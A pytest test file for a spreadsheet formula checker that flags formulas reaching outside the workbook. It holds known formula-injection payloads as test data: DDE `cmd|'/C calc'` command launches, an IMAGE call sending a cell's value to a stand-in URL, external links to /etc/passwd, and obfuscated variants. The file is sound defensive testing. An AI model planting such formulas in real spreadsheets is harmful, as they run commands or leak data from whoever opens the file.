"""Formulas: whatever reaches outside of the workbook is named, however it is spelled; ordinary ones pass."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatsheet.sheets.package import formula
from chatsheet.sheets.package.formula import FormulaForbidden

REACHING = {
    '=IMAGE("http://example.org/?"&A1)': "IMAGE",
    '=_xlfn.IMAGE ("x")': "IMAGE",
    '=_xlfn._xlws.webservice("x")': "WEBSERVICE",
    '=IF(A1>1,SUM(B1,  HyperLink("x","y")),2)': "HYPERLINK",
    "=IMPORTXML(A1,B1)": "IMPORTXML",
    "=importrange(A1)": "IMPORTRANGE",
    '=FILTERXML(WEBSERVICE("x"),"//a")': "FILTERXML",
    '=RTD("a",,"b")': "RTD",
    '=DDE("soffice","a","b")': "DDE",
    "=CALL(1,2)": "CALL",
    '=REGISTER.ID("k","f")': "REGISTER.ID",
    "=cmd|'/C calc'!A0": "DDE",
    "=\"a\"&cmd|'/C calc'!A0": "DDE",
    "='cmd'|'/C calc'!A0": "DDE",
    "=[1]Sheet1!A1": "external link",
    "=[1]!Name": "external link",
    "=SUM([Book.xlsx]Sheet1!A1:A3)": "external link",
    "='C:\\secret\\[x.xlsx]S'!A1": "external link",
    "='file:///etc/passwd'#$S.A1": "external link",
    "=\uff29\uff2d\uff21\uff27\uff25(A1)": "IMAGE",
    "=MAP(A1:A3,_xlfn.IMAGE)": "IMAGE",
    "=LET(f,IMAGE,f(A1))": "IMAGE",
    "=T[a'] ]&IMAGE(A1)&T['b]": "IMAGE",
    '=T[a"]&IMAGE(A1)&T["b]': "IMAGE",
    "=T[ & IMAGE(A1)": "IMAGE",
    '="open & IMAGE(A1)': "an open quote",
}
ORDINARY = (
    "=SUM(A1:A3)", '=IF(A1="IMAGE(x)|y",1,2)', "=Image!A1+'my image'!B2", "=Table1[Image]", "=[@Amount]*Sheet2!A1",
    "=T[[#This Row],[x|y]]+1", '=VLOOKUP(A1,Sheet2!$A:$B,2,FALSE)&" \'[x]\'"', "=_xlfn.XLOOKUP(A1,B:B,C:C)", "=1+1",
)  # fmt: skip


@pytest.mark.parametrize(("text", "name"), REACHING.items())
def test_what_reaches_outside_is_named(text: str, name: str) -> None:
    assert name in formula.check_formula(text).reaches


@pytest.mark.parametrize("text", ORDINARY)
def test_what_computes_from_the_workbook_alone_passes(text: str) -> None:
    assert formula.check_formula(text).is_safe


@given(before=st.text("+-*/(),;:&<>= \n", max_size=8), space=st.text(" \t\n", max_size=3))
def test_a_forbidden_name_is_found_behind_any_operators(before: str, space: str) -> None:
    assert "WEBSERVICE" in formula.check_formula(f"={before}WebService{space}(A1)").reaches


@given(st.text(max_size=60))
def test_any_text_gets_an_answer(text: str) -> None:
    assert isinstance(formula.check_formula(text).is_safe, bool)


def test_a_reaching_formula_needs_consent() -> None:
    with pytest.raises(FormulaForbidden) as refused:
        formula.require_safe("=IMAGE(A1)", has_consent=False)
    assert refused.value.code == "formula.forbidden"
    formula.require_safe("=IMAGE(A1)", has_consent=True)


@pytest.mark.parametrize(
    ("text", "shifted"),
    [
        ('A1+$B$2*Sheet2!C3&"A1"', 'B2+$B$2*Sheet2!D4&"A1"'),
        ("SUM(A:A)+SUM($1:1)+LOG10(A1)", "SUM(B:B)+SUM($1:2)+LOG10(B2)"),
        ("'A1'!B2+T[A1]", "'A1'!C3+T[A1]"),
        ("$A1:B$2", "$A2:C$2"),
        ("XFD1048576", "#REF!"),
        ("MY_A1+A1.B2+A1B", "MY_A1+A1.B2+A1B"),
    ],
)
def test_a_formula_filled_down_and_right_moves_what_is_relative(text: str, shifted: str) -> None:
    assert formula.shift(text, rows=1, columns=1) == shifted
